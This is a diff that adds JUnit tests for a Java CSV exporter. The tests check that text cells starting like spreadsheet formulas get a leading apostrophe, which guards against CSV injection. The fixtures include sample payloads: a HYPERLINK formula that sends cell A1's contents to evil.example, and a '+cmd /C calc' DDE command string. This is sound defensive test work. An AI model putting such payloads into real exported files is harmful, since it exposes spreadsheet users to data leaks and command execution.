@@ -6,6 +6,7 @@ import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.dossier.views.DossierFixture;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -30,6 +31,40 @@ class FiguresCsvTest {
     @MethodSource("fields")
     void quotesAsRfc4180Requires(String field, String quoted) {
         assertThat(FiguresCsv.quote(field)).isEqualTo(quoted);
+    }
+
+    static Stream<Arguments> cells() {
+        return Stream.of(
+                Arguments.of("=HYPERLINK(\"http://evil.example/\",\"Click\")", "'=HYPERLINK(\"http://evil.example/\",\"Click\")"),
+                Arguments.of("+cmd", "'+cmd"),
+                Arguments.of("-2+3", "'-2+3"),
+                Arguments.of("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+                Arguments.of("\tTabbed", "'\tTabbed"),
+                Arguments.of("\rReturned", "'\rReturned"),
+                Arguments.of("Voice of America", "Voice of America"),
+                Arguments.of("a = b", "a = b"),
+                Arguments.of("", ""));
+    }
+
+    @ParameterizedTest(name = "[{0}] -> [{1}]")
+    @MethodSource("cells")
+    void aTextCellThatStartsLikeAFormulaGetsALeadingApostrophe(String text, String cell) {
+        assertThat(FiguresCsv.inert(text)).isEqualTo(cell);
+    }
+
+    @Test
+    void textFromTheArticlesCannotRunAsAFormulaWhereTheValueStaysANumber() {
+        FigureLedger ledger = FigureLedger.of(DossierFixture.parse(List.of(
+                "article evil | =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") | +cmd /C calc!A0 | -",
+                "block evil p1 | The index fell -3.5 points, said @Vladimir Putin.",
+                "figure evil p1 | -3.5 | -3.5 | points | points | - | @Vladimir Putin")).dossier());
+
+        String row = FiguresCsv.of(ledger).split("\r\n")[1];
+
+        assertThat(row).isEqualTo(
+                ",-3.5,'-3.5,points,,points,'@Vladimir Putin,"
+                        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
+                        + "'+cmd /C calc!A0,,articles/evil.html#p1");
     }
 
     @Test
